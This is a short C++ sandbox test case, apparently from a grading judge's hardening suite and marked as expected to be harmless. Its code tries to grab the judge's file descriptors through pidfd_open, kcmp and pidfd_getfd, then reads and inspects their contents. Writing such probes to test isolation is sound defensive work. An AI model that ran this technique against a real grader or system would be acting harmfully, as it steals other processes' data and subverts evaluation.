// task: optimization-online-bandit
// route: descriptors of other processes
// tries: to take the judge's descriptors over by pidfd_getfd, and to learn about them by kcmp
// expect: harmless

#include "shared/bandit.hpp"
#include "shared/probe.hpp"

void attack::begin(const mls::Info& info, mls::Rng&) {
  survive();
  static char block[1 << 16];
  for (int pid = 1; pid < 64; ++pid) {
    const long handle = call(SYS_pidfd_open, pid);
    for (int fd = 0; fd < 8; ++fd) {
      call(SYS_kcmp, 1, pid, 0, 3, fd);
      const long mine = call(SYS_pidfd_getfd, handle, fd);
      const long got = mine < 0 ? -1 : call(SYS_pread64, mine, address(block), sizeof block, 0);
      if (got > 0) examine({block, static_cast<std::size_t>(got)}, info);
    }
  }
}
